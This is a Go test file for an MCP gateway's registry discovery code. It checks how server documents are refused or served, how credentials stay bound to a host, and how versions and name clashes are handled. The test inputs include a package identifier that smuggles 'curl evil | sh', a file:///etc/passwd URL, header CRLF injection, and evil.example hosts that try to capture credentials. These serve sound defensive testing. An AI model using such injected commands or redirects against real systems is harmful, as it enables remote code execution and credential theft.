package discovery

import (
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sallyport-dev/sallyport/engine/source"
	"github.com/sallyport-dev/sallyport/internal/config"
)

// shelf is a registry that is asked over the network, by what it has answered.
type shelf struct {
	t      *testing.T
	config *config.Config
	found  *Found
	ds     source.Diagnostics
}

const selects = "names: [com.acme/*]"

// newShelf has a config with one registry, with these settings beside where it is.
func newShelf(t *testing.T, settings string) *shelf {
	t.Helper()
	text := "servers: {}\nidentity: { anonymous: allow }\ndiscovery:\n  state: kept.json\n  registries:\n  - from: https://registry.example/v0.1/servers?key=s3cret\n"
	for line := range strings.Lines(settings) {
		text += "    " + line
	}
	c, ds := config.Parse(filepath.Join(t.TempDir(), "sallyport.yaml"), []byte(text), func(string) (string, bool) { return "from the environment", true })
	if ds.HasErrors() {
		t.Fatal(ds)
	}
	return &shelf{t: t, config: c}
}

func (s *shelf) ask(answer []byte) []string {
	s.t.Helper()
	r := registry{config: s.config, Registry: &s.config.Discovery.Registries[0], prev: s.found, answer: answer}
	entries, ds := r.read()
	s.found = &Found{Mistakes: ds}
	s.found.merge(entries)
	s.ds, entries = s.found.Mistakes, s.found.Entries
	out := []string{}
	for i := range entries {
		e := &entries[i]
		if e.Source != Registry || strings.Contains(fmt.Sprintf("%+v", e), "s3cret") {
			s.t.Errorf("entry %+v", e)
		}
		line := e.Name + " " + string(e.State)
		if e.State == Serving {
			line += " " + e.Server.URL
			for _, name := range slices.Sorted(maps.Keys(e.Server.Headers)) {
				line += " " + name + "=" + e.Server.Headers[name]
			}
		}
		for _, d := range e.Mistakes {
			line += " " + d.Code + " " + d.Message
		}
		out = append(out, line)
	}
	for _, d := range s.ds {
		out = append(out, d.Code+" "+d.Message)
	}
	return out
}

func (s *shelf) expect(lines []string, want ...string) {
	s.t.Helper()
	if want == nil {
		want = []string{}
	}
	text := []byte{}
	for _, line := range lines {
		text = append(text, strings.ReplaceAll(line, "\n", " ")+"\n"...)
	}
	if diff := cmp.Diff(want, s.ask(text)); diff != "" {
		s.t.Errorf("found (-want +got):\n%s", diff)
	}
}

// doc is a document of a server at a URL.
func doc(name, version, url string) string {
	return fmt.Sprintf(`{"$schema":"https://static.modelcontextprotocol.io/schemas/2025-12-11/server.schema.json","name":%q,"description":"Keeps notes.","version":%q,"remotes":[{"type":"streamable-http","url":%q}]}`, name, version, url)
}

// answered is a document as a registry answers it.
func answered(doc, official string) string {
	return `{"server":` + doc + `,"_meta":{"io.modelcontextprotocol.registry/official":` + official + `}}`
}

// with is the document of com.acme/notes with other parts.
func with(parts string) string {
	return `{"name":"com.acme/notes","description":"Keeps notes.","version":"1.0.0",` + parts + `}`
}

func TestADocumentIsAServer(t *testing.T) {
	s := newShelf(t, selects)
	s.expect([]string{
		answered(doc("com.acme/notes", "1.2.0", "https://notes.acme.example/mcp"), `{"status":"active","publishedAt":"2026-01-31T00:00:00Z","isLatest":true}`),
		doc("com.acme/Mail.v2_x", "2.0.0", "https://mail.acme.example:8443/mcp?tenant=1"),
		doc("com.evil/notes", "1.0.0", "https://evil.example/mcp"),
	},
		"com-acme-mail-v2-x serving https://mail.acme.example:8443/mcp?tenant=1",
		"com-acme-notes serving https://notes.acme.example/mcp",
	)
	e, _ := s.found.Entry("com-acme-notes")
	if diff := cmp.Diff(&Listing{Name: "com.acme/notes", Version: "1.2.0", Description: "Keeps notes."}, e.Listing); diff != "" {
		t.Errorf("listing (-want +got):\n%s", diff)
	}
	if e.From != "https://registry.example/v0.1/servers com.acme/notes 1.2.0" || e.Server.Timeout != s.config.Limits.CallTimeout {
		t.Errorf("entry %+v", e)
	}
}

// What a document says, and why that is no server.
func TestDocumentsThatAreNotServed(t *testing.T) {
	remotes := func(text string) string { return with(`"remotes":[` + text + `]`) }
	schema := func(of string) string {
		return with(`"$schema":"` + of + `","remotes":[{"type":"streamable-http","url":"https://a.example/mcp"}]`)
	}
	at := func(url string) string { return remotes(fmt.Sprintf(`{"type":"streamable-http","url":%q}`, url)) }
	asks := func(header string) string {
		return remotes(`{"type":"streamable-http","url":"https://a.example/mcp","headers":[` + header + `]}`)
	}
	is := func(status string) string { return answered(at("https://a.example/mcp"), status) }
	for name, c := range map[string]struct{ doc, want string }{
		"a package":               {with(`"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio"},"runtimeHint":"npx"}]`), "SP1423 `com.acme/notes`: it is a program to download (npm `@acme/notes`), and the gateway runs none that a document names"},
		"sse":                     {remotes(`{"type":"sse","url":"https://a.example/sse"}`), "SP1423 `com.acme/notes`: it is called by the HTTP+SSE of 2024-11-05, which the gateway doesn't speak"},
		"stdio":                   {remotes(`{"type":"stdio","url":"sh"}`), "SP1423 `com.acme/notes`: the gateway doesn't know how to call `stdio`"},
		"nowhere":                 {with(`"title":"Notes"`), "SP1423 `com.acme/notes`: it doesn't say where it is"},
		"deleted":                 {is(`{"status":"deleted","statusMessage":"it was malicious"}`), "SP1423 `com.acme/notes`: its registry has deleted it: it was malicious"},
		"an unknown status":       {is(`{"status":"suspended"}`), "SP1423 `com.acme/notes`: its registry says `suspended` of it, and nobody knows what that means"},
		"a strange status":        {is(`{"status":7}`), "SP1422 the document of `com.acme/notes` is left out: its `status` is no text"},
		"in the clear":            {at("http://a.example/mcp"), "SP1423 `com.acme/notes`: it is called without TLS: whoever is between could read and change what is sent"},
		"another scheme":          {at("file:///etc/passwd"), "SP1103 `file:///etc/passwd` is not an http or https URL"},
		"credentials":             {at("https://user:pass@a.example/mcp"), "SP1103 a URL must not hold a user or password"},
		"a fragment":              {at("https://a.example/mcp#x"), "SP1103 a URL that is called has no fragment"},
		"a space":                 {at("https://a.example/m cp"), "SP1103 `https://a.example/m cp` is not an http or https URL"},
		"a line break":            {at("https://a.example/\nmcp"), "SP1423 `com.acme/notes`: `https://a.example/ mcp` is not an http or https URL"},
		"letters that look alike": {at("https://note\u017f.example/mcp"), "SP1423 `com.acme/notes`: `https://note\u017f.example/mcp` is not an http or https URL"},
		"a variable":              {at("https://{tenant}.a.example/mcp"), "SP1423 `com.acme/notes`: its URL needs the variable `tenant`"},
		"a stray brace":           {at("https://a.example/{mcp"), "SP1423 `com.acme/notes`: `https://a.example/{mcp` is not an http or https URL"},
		"a secret in a URL":       {remotes(`{"type":"streamable-http","url":"https://a.example/{key}","variables":{"key":{"isSecret":true,"default":"x"}}}`), "SP1423 `com.acme/notes`: its URL would hold a secret, `key`, which would be seen in logs"},
		"no such choice":          {remotes(`{"type":"streamable-http","url":"https://{r}.a.example/mcp","variables":{"r":{"default":"mars","choices":["eu","us"]}}}`), "SP1423 `com.acme/notes`: its variable or header `r` can't be `mars`"},
		"a secret header":         {asks(`{"name":"Authorization","isRequired":true,"isSecret":true,"value":"Bearer of-the-document"}`), "SP1423 `com.acme/notes`: it needs the header `Authorization`"},
		"a required header":       {asks(`{"name":"X-Tenant","isRequired":true}`), "SP1423 `com.acme/notes`: it needs the header `X-Tenant`"},
		"a secret variable":       {asks(`{"name":"X-Key","isRequired":true,"value":"k {key}","variables":{"key":{"isSecret":true,"default":"x"}}}`), "SP1423 `com.acme/notes`: it needs the header `X-Key`"},
		"a forbidden header":      {asks(`{"name":"Host","value":"internal"}`), "SP1114 the gateway writes `Host` itself"},
		"a protocol header":       {asks(`{"name":"Mcp-Session-Id","value":"1"}`), "SP1114 the gateway writes `Mcp-Session-Id` itself"},
		"a split header":          {asks(`{"name":"X-A","value":"1\r\nX-B: 2"}`), "SP1114 the value of `X-A` holds a line break or another control character"},
		"a placeholder":           {asks(`{"name":"X-Api-Key","value":"YOUR_API_KEY"}`), "SP1109 `YOUR_API_KEY` is a placeholder, not a secret"},
		"an older format":         {schema("https://static.modelcontextprotocol.io/schemas/2025-07-09/server.schema.json"), "SP1422 the document of `com.acme/notes` is left out: it is of the format of 2025-07-09, which this gateway doesn't know"},
		"another format":          {schema("https://schemas.example/server.json"), "SP1422 the document of `com.acme/notes` is left out: its `$schema` is none of a server: https://schemas.example/server.json"},
		"no version":              {`{"name":"com.acme/notes","description":"x"}`, "SP1422 the document of `com.acme/notes` is left out: its `version` is no text"},
		"a long description":      {`{"name":"com.acme/notes","version":"1","description":"` + strings.Repeat("x", 101) + `"}`, "SP1422 the document of `com.acme/notes` is left out: its title or description has more than 100 characters"},
		"remotes as a map":        {with(`"remotes":{}`), "SP1422 the document of `com.acme/notes` is left out: its `remotes` are no list of at most 64"},
		"a remote as a text":      {remotes(`"https://a.example"`), "SP1422 the document of `com.acme/notes` is left out: one of its `remotes` is no object"},
		"many remotes":            {remotes(strings.Repeat(`{"type":"x","url":"y"},`, 64) + `{"type":"x","url":"y"}`), "SP1422 the document of `com.acme/notes` is left out: its `remotes` are no list of at most 64"},
		"a secret that isn't":     {asks(`{"name":"X-Key","isSecret":"yes","value":"x"}`), "SP1422 the document of `com.acme/notes` is left out: its `isSecret` is neither true nor false"},
		"a name twice":            {`{"name":"com.evil/notes","name":"com.acme/notes","description":"x","version":"1"}`, "SP1422 the document of `com.acme/notes` is left out: it is no JSON that can be relied on: json: duplicate member name at offset 25"},
		"too deep":                {with(`"_meta":` + strings.Repeat("[", 40) + strings.Repeat("]", 40)), "SP1422 the document of `com.acme/notes` is left out: it is no JSON that can be relied on: json: nesting too deep at offset 111"},
		"too large":               {with(`"_meta":"` + strings.Repeat("x", 64<<10) + `"`), "SP1422 the document of `com.acme/notes` is left out: it is larger than 64 KiB"},
	} {
		t.Run(name, func(t *testing.T) {
			s := newShelf(t, selects)
			s.t = t
			s.expect([]string{c.doc, doc("com.acme/other", "1.0.0", "https://other.example/mcp")},
				"com-acme-notes refused "+c.want, "com-acme-other serving https://other.example/mcp")
		})
	}
}

func TestThePackageOfADocumentIsSaidHowToRun(t *testing.T) {
	for parts, want := range map[string]string{
		`"registryType":"npm","identifier":"@acme/notes","version":"1.0.0"`:         "command: [npx, -y, \"@acme/notes@1.0.0\"]",
		`"registryType":"pypi","identifier":"acme-notes","version":"1.0.0"`:         "command: [uvx, \"acme-notes@1.0.0\"]",
		`"registryType":"nuget","identifier":"Acme.Notes","version":"1.0.0"`:        "command: [dnx, \"Acme.Notes@1.0.0\", --yes]",
		`"registryType":"npm","identifier":"@acme/notes"`:                           "command: [PROGRAM, ARGUMENT]",
		`"registryType":"npm","identifier":"x; curl evil | sh #","version":"1.0.0"`: "command: [PROGRAM, ARGUMENT]",
		`"registryType":"npm","identifier":"--eval","version":"1.0.0"`:              "command: [PROGRAM, ARGUMENT]",
		`"registryType":"oci","identifier":"ghcr.io/acme/notes:1.0.0"`:              "command: [PROGRAM, ARGUMENT]",
	} {
		s := newShelf(t, selects)
		s.ask([]byte(with(`"packages":[{` + parts + `}]`)))
		if e := s.found.Entries[0]; e.State != Refused || !strings.HasSuffix(e.Mistakes[0].Help, "`"+want+"`") {
			t.Errorf("%s: %s, %q", parts, e.State, e.Mistakes[0].Help)
		}
	}
}

// A remote is preferred to a package, and one that can be called to one that can't.
func TestTheFirstPlaceThatServesIsTaken(t *testing.T) {
	s := newShelf(t, "servers: { com.acme/notes: { as: notes, host: b.example } }")
	s.expect([]string{with(`"packages":[{"registryType":"npm","identifier":"x"}],"remotes":[{"type":"sse","url":"https://b.example/sse"},
		{"type":"streamable-http","url":"https://a.example/mcp"},{"type":"streamable-http","url":"https://B.example:443/mcp"}]`)},
		"notes serving https://B.example:443/mcp")
}

func TestTheOperatorSettlesWhatADocumentAsksFor(t *testing.T) {
	s := newShelf(t, `
servers:
  com.acme/notes:
    as: notes
    host: acme.notes.example
    variables: { tenant: acme, region: eu }
    headers: { authorization: "Bearer ${TOKEN}" }
    timeout: 3s
    era: auto
`)
	s.expect([]string{with(`"remotes":[{"type":"streamable-http","url":"https://{tenant}.notes.example/{path}","variables":{"tenant":{"isRequired":true},"path":{"value":"mcp"}},"headers":[
		{"name":"Authorization","isRequired":true,"isSecret":true,"value":"Bearer of-the-document"},
		{"name":"X-Region","value":"{region}/{tenant}/{undeclared}","variables":{"region":{"choices":["eu","us"]},"tenant":{"value":"of-the-document"}}},
		{"name":"X-Optional"},{"name":"X-Secret","isSecret":true,"default":"x"},{"name":"X-Fixed","value":"${TOKEN}"},{"name":"X-Default","default":"d"},
		{"name":"X-Half","value":"{missing}","variables":{"missing":{}}}
	]}]`)},
		"notes serving https://acme.notes.example/mcp X-Default=d X-Fixed=${TOKEN} X-Region=eu/acme/{undeclared} authorization=Bearer from the environment")
	e, _ := s.found.Entry("notes")
	if e.Server.Timeout.String() != "3s" || e.Server.Era != "auto" {
		t.Errorf("server %+v", e.Server)
	}
}

// Whoever writes a document can't have the operator's credentials sent to another place.
func TestCredentialsAreForOneHost(t *testing.T) {
	s := newShelf(t, `servers: { com.acme/notes: { as: notes, host: notes.example, headers: { Authorization: "Bearer ${TOKEN}" } } }`)
	for url, want := range map[string]string{
		"https://notes.example/mcp":              "notes serving https://notes.example/mcp Authorization=Bearer from the environment",
		"https://evil.example/mcp":               "notes refused SP1423 `com.acme/notes`: it is at `evil.example`, and the config says `notes.example`",
		"https://notes.example.evil.example/mcp": "notes refused SP1423 `com.acme/notes`: it is at `notes.example.evil.example`, and the config says `notes.example`",
		"https://notes.example:8443/mcp":         "notes refused SP1423 `com.acme/notes`: it is at `notes.example:8443`, and the config says `notes.example`",
		"https://notes.example@evil.example/":    "notes refused SP1423 `com.acme/notes`: it is at `evil.example`, and the config says `notes.example`",
		"http://notes.example/mcp":               "notes refused SP1423 `com.acme/notes`: it is called without TLS: whoever is between could read and change what is sent",
	} {
		s.expect([]string{doc("com.acme/notes", "1.0.0", url)}, want)
	}
}

func TestVersions(t *testing.T) {
	old := func(version, official string) string {
		return answered(doc("com.acme/notes", version, "https://a.example/"+version), official)
	}
	s := newShelf(t, selects)
	s.expect([]string{old("1.0.0", `{"status":"active","isLatest":false}`), old("2.0.0", `{"status":"active","isLatest":true}`)},
		"com-acme-notes serving https://a.example/2.0.0")
	s.expect([]string{old("1.0.0", `{}`), old("2.0.0", `{}`)},
		"com-acme-notes refused SP1423 `com.acme/notes`: there are 2 versions of it, and nobody says which is the latest")
	s.expect([]string{old("1.0.0", `{"isLatest":false}`)},
		"com-acme-notes refused SP1423 `com.acme/notes`: the registry has a later version, and doesn't show it")
	s = newShelf(t, "servers: { com.acme/notes: { version: 1.0.0 } }")
	s.expect([]string{old("1.0.0", `{"isLatest":false}`), old("2.0.0", `{"isLatest":true}`)},
		"com-acme-notes serving https://a.example/1.0.0")
	s.expect([]string{old("2.0.0", `{"isLatest":true}`)},
		"com-acme-notes refused SP1423 `com.acme/notes`: the registry has no version `1.0.0` of it")
	s.expect([]string{old("1.0.0", `{}`), old("1.0.0", `{"isLatest":true}`)},
		"com-acme-notes refused SP1423 `com.acme/notes`: there are 2 documents of it with the version `1.0.0`")
	s.expect(nil, "com-acme-notes refused SP1423 the registry doesn't list `com.acme/notes`")
	s.expect([]string{old("1.0.0", `{"status":"deprecated","statusMessage":"use com.acme/pages"}`)},
		"com-acme-notes serving https://a.example/1.0.0 SP1423 `com.acme/notes` is deprecated by its registry: use com.acme/pages")
	if got := s.found.Entries[0]; got.Listing.Status != "deprecated" || got.Mistakes.HasErrors() {
		t.Errorf("entry %+v", got)
	}
}

// A name is one server's: the one that the config names, or nobody's.
func TestNamesThatBecomeOne(t *testing.T) {
	first, second := doc("com.acme/a-b", "1.0.0", "https://one.example/mcp"), doc("com.acme-a/b", "1.0.0", "https://two.example/mcp")
	both := "SP1401 `com.acme-a/b` and `com.acme/a-b` would both be called `com-acme-a-b`"
	s := newShelf(t, "names: [com.acme*]")
	s.expect([]string{first, second}, "com-acme-a-b refused "+both)
	s = newShelf(t, "names: [com.acme*]\nservers: { com.acme/a-b: {} }")
	s.expect([]string{first, second}, "com-acme-a-b serving https://one.example/mcp", "SP1401 `com.acme/a-b` and `com.acme-a/b` would both be called `com-acme-a-b`: its claim comes later")
	s = newShelf(t, "names: [com.acme*]\nservers: { com.acme/a-b: { as: one } }")
	s.expect([]string{first, second}, "com-acme-a-b serving https://two.example/mcp", "one serving https://one.example/mcp")
	long := "com.acme/" + strings.Repeat("n", 60)
	s = newShelf(t, selects)
	s.expect([]string{doc(long, "1.0.0", "https://a.example/mcp")},
		"com-acme-nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn... refused SP1423 `"+long+"` can't be called `com-acme-nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn...` here")
}

func TestDocumentsWithoutNamesAreCounted(t *testing.T) {
	s := newShelf(t, selects)
	s.expect([]string{`{"server":{"name":7}}`, `{"name":"no slash"}`, `[]`, `{"server":[]}`, doc("com.acme/notes", "1.0.0", "https://a.example/mcp")},
		"com-acme-notes serving https://a.example/mcp",
		"SP1422 4 of its documents have no name that can be read, and are left out; the first: its `name` is no text")
}

func TestARegistryThatHasNotAnsweredLeavesItsServersAsTheyWere(t *testing.T) {
	s := newShelf(t, selects)
	if got := s.ask(nil); len(got) > 0 {
		t.Errorf("found %q", got)
	}
	s.expect([]string{doc("com.acme/notes", "1.0.0", "https://a.example/mcp")}, "com-acme-notes serving https://a.example/mcp")
	if got := s.ask(nil); !slices.Equal(got, []string{"com-acme-notes serving https://a.example/mcp"}) {
		t.Errorf("found %q", got)
	}
	s.config.Discovery.Registries[0].Servers = map[string]config.Listed{"com.acme/notes": {As: "notes", Host: "b.example"}, "com.acme/new": {}}
	if diff := cmp.Diff([]string{
		"com-acme-new refused SP1421 the registry has not said yet what `com.acme/new` is",
		"notes refused SP1423 `com.acme/notes`: it is at `a.example`, and the config says `b.example`",
	}, s.ask(nil)); diff != "" {
		t.Errorf("with other settings (-want +got):\n%s", diff)
	}
	s.config.Discovery.Registries[0].Servers, s.config.Discovery.Registries[0].Names = nil, []string{"org.example/*"}
	if got := s.ask(nil); len(got) > 0 {
		t.Errorf("with another selection there is %q", got)
	}
}

// What is settled of a server is not sent there before it is approved, whatever its document calls its fields.
func TestListedServersAreNotAskedBeforeTheyAreApproved(t *testing.T) {
	s := newShelf(t, "servers: { com.acme/notes: { host: a.example, variables: { key: k1 } } }")
	s.expect([]string{with(`"url":"https://a.example/","remotes":[{"type":"streamable-http","url":"https://a.example/{key}"}]`)}, "com-acme-notes serving https://a.example/k1")
	if is, ok := s.found.Entries[0].Askable(); ok {
		t.Errorf("it is asked with %+v", is)
	}
}

// What a registry has said of a document counts on while it doesn't answer.
func TestWhatIsWithdrawnStaysSoWhileItsRegistryDoesNotAnswer(t *testing.T) {
	text := doc("com.acme/notes", "1.0.0", "https://a.example/mcp")
	for official, want := range map[string]string{
		`{"status":"deleted","statusMessage":"it was malicious"}`: "com-acme-notes refused SP1423 `com.acme/notes`: its registry has deleted it: it was malicious",
		`{"status":"deprecated"}`:                                 "com-acme-notes serving https://a.example/mcp SP1423 `com.acme/notes` is deprecated by its registry",
	} {
		s := newShelf(t, selects)
		s.expect([]string{text}, "com-acme-notes serving https://a.example/mcp")
		s.expect([]string{answered(text, official)}, want)
		for range 2 {
			if got := s.ask(nil); !slices.Equal(got, []string{want}) {
				t.Errorf("without an answer: %q, want %q", got, want)
			}
		}
	}
	s := newShelf(t, "names: [com.acme/*]\nservers: { com.acme/notes: { version: 1.0.0 } }")
	s.expect([]string{answered(text, `{"isLatest":false}`)}, "com-acme-notes serving https://a.example/mcp")
	s.config.Discovery.Registries[0].Servers = nil
	if got := s.ask(nil); len(got) != 1 || strings.Contains(got[0], "serving") {
		t.Errorf("an older version is taken for the latest: %q", got)
	}
}

// A copy of what a registry has said says nothing of a server that nobody had asked for then.
func TestACopyIsNoAnswerToWhatWasNotAsked(t *testing.T) {
	s := newShelf(t, "servers: { com.acme/notes: {}, com.acme/new: {} }")
	for isCopy, want := range map[bool]string{true: "SP1421 the registry has not said yet what `com.acme/new` is", false: "SP1423 the registry doesn't list `com.acme/new`"} {
		r := registry{config: s.config, Registry: &s.config.Discovery.Registries[0], answer: []byte(doc("com.acme/notes", "1.0.0", "https://a.example/mcp")), copy: isCopy}
		entries, _ := r.read()
		if d := entries[1].Mistakes[0]; len(entries) != 2 || d.Code+" "+d.Message != want || entries[0].State != Serving {
			t.Errorf("%+v, want %s", entries, want)
		}
	}
}

func TestSelectingTooManyChangesNothing(t *testing.T) {
	s := newShelf(t, selects)
	s.expect([]string{doc("com.acme/notes", "1.0.0", "https://a.example/mcp")}, "com-acme-notes serving https://a.example/mcp")
	many := []string{}
	for i := range MaxServers + 1 {
		many = append(many, doc(fmt.Sprintf("com.acme/n%d", i), "1.0.0", "https://a.example/mcp"))
	}
	s.expect(many, "com-acme-notes serving https://a.example/mcp", "SP1421 1001 of its servers are selected, and it may be 1000")
}

// A digest is of all that a document says, and not of what a registry says of it.
func TestDigestsOfDocuments(t *testing.T) {
	s := newShelf(t, selects)
	digest := func(line string) string {
		s.ask([]byte(line))
		return s.found.Entries[0].Digest
	}
	text := doc("com.acme/notes", "1.0.0", "https://a.example/mcp")
	first := digest(text)
	var members map[string]any
	if err := json.Unmarshal([]byte(text), &members); err != nil {
		t.Fatal(err)
	}
	other, err := json.Marshal(members)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(first, "sha256:") || digest(string(other)) != first || digest(answered(text, `{"updatedAt":"2026-01-31T00:00:00Z"}`)) != first {
		t.Error("one document has several digests")
	}
	for _, changed := range []string{
		doc("com.acme/notes", "1.0.0", "https://b.example/mcp"), doc("com.acme/notes", "1.0.1", "https://a.example/mcp"), strings.Replace(text, "Keeps", "Reads", 1),
	} {
		if digest(changed) == first {
			t.Errorf("%s has the digest of another", changed)
		}
	}
}

func TestDocumentsInFiles(t *testing.T) {
	s := newShelf(t, selects)
	dir := t.TempDir()
	s.config.Discovery.Registries[0].From = dir
	write := func(name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	expect := func(want ...string) {
		t.Helper()
		if diff := cmp.Diff(want, s.ask(nil)); diff != "" {
			t.Errorf("found (-want +got):\n%s", diff)
		}
	}
	write("notes.json", doc("com.acme/notes", "1.0.0", "https://a.example/mcp"))
	write("list.json", `{"servers":[`+answered(doc("com.acme/mail", "1.0.0", "https://b.example/mcp"), `{}`)+`,`+doc("com.evil/mail", "1.0.0", "https://e.example/mcp")+`],"metadata":{"count":2}}`)
	write("README.md", "not a document")
	write("x.yaml", "url: https://x.example/mcp")
	expect("com-acme-mail serving https://b.example/mcp", "com-acme-notes serving https://a.example/mcp")
	if err := os.Symlink("nowhere", filepath.Join(dir, "broken.json")); err != nil {
		t.Fatal(err)
	}
	expect("com-acme-mail serving https://b.example/mcp", "com-acme-notes serving https://a.example/mcp", "SP1402 the file can't be read: no such file or directory")
	s.config.Discovery.Registries[0].From = filepath.Join(dir, "notes.json")
	s.found = nil
	expect("com-acme-notes serving https://a.example/mcp")
	s.config.Discovery.Registries[0].From = filepath.Join(dir, "gone")
	s.found = nil
	expect("SP1402 it can't be read: no such file or directory")
}

// The registry that the config names first has the name, whatever it says of it, as long as no operator has approved another's; who is passed over is shown.
func TestRegistriesThatNameTheSameServer(t *testing.T) {
	w := newWorld(t, "servers: {}\nidentity: { anonymous: allow }\ndiscovery: { directory: servers.d, state: state.json, registries: [ { from: b.json, names: [com.acme/*] }, { from: a.json, names: [com.acme/*] } ] }\n")
	is := func(name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(w.dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	has := func(from string, over ...string) {
		t.Helper()
		w.find()
		e, _ := w.found.Entry("com-acme-notes")
		var got []string
		for _, at := range e.Over {
			at, _, _ = strings.Cut(strings.ReplaceAll(at, w.dir+"/", ""), " (")
			got = append(got, at)
		}
		if diff := cmp.Diff(over, got); diff != "" || strings.ReplaceAll(e.From, w.dir+"/", "") != from {
			t.Errorf("%s has it, want %s; passed over (-want +got):\n%s", e.From, from, diff)
		}
		warned := 0
		for _, d := range w.found.All() {
			if d.Severity == source.Warning && strings.Contains(d.Message, "is passed over: there is one of that name in "+e.From) {
				warned++
			}
		}
		if warned != len(over) || w.found.All().HasErrors() != (e.State == Refused) {
			t.Errorf("mistakes: %s", w.found.All().Error())
		}
	}
	one, two := doc("com.acme/notes", "1.0.0", "https://one.example/mcp"), doc("com.acme/notes", "2.0.0", "https://two.example/mcp")
	is("a.json", one)
	is("b.json", two)
	const a, b = "a.json com.acme/notes 1.0.0", "b.json com.acme/notes 2.0.0"
	for range 2 {
		has(b, "registry "+a)
	}
	w.approve("com-acme-notes")
	has(b, "registry "+a)
	is("b.json", answered(two, `{"status":"deleted"}`))
	has(b, "registry "+a)
	w.say(func(k *Kept) *Kept { return k.Revoke("com-acme-notes") })
	rs := w.config.Discovery.Registries
	rs[0], rs[1] = rs[1], rs[0]
	has(a, "registry "+b)
	w.write("com-acme-notes.yaml", "url: https://a.example/mcp")
	has("servers.d/com-acme-notes.yaml", "registry "+a, "registry "+b)
	w.write("com-acme-notes.yaml", "ulr: https://a.example/mcp")
	for _, broken := range []string{"a file that is broken", "no directory"} {
		for range 2 {
			w.find()
			if e, _ := w.found.Entry("com-acme-notes"); len(e.Over) != 2 {
				t.Errorf("with %s: %q", broken, e.Over)
			}
		}
		w.remove("")
	}
	w.found = nil // a restart
	if err := os.Mkdir(filepath.Join(w.dir, "servers.d"), 0o700); err != nil {
		t.Fatal(err)
	}
	is("a.json", `{"servers":[]}`)
	has(b)
}
